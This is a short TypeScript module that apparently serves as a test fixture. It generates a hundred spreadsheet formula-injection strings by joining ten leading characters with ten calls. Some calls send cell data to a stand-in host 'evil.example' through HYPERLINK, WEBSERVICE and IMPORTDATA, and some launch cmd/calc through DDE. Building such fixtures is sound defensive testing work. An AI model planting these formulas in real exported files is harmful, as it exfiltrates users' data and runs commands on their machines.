/** Cell contents from an attacker that a spreadsheet would execute, or has executed. */
const CALLS = [
  "1+1",
  "SUM(A1:A9)",
  'HYPERLINK("http://evil.example/?"&A1,"click")',
  'WEBSERVICE("http://evil.example/"&A1)',
  'IMPORTXML("http://evil.example/","//a")',
  'IMPORTDATA("http://evil.example/"&A1)',
  "cmd|'/C calc'!A0",
  'DDE("cmd";"/C calc";"x")',
  "MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
  'INDIRECT("A1")',
];
const STARTS = ["=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "=+", "\u200b="];

/** A hundred: every start before every call. */
export const FORMULAS: readonly string[] = STARTS.flatMap((start) => CALLS.map((call) => start + call));
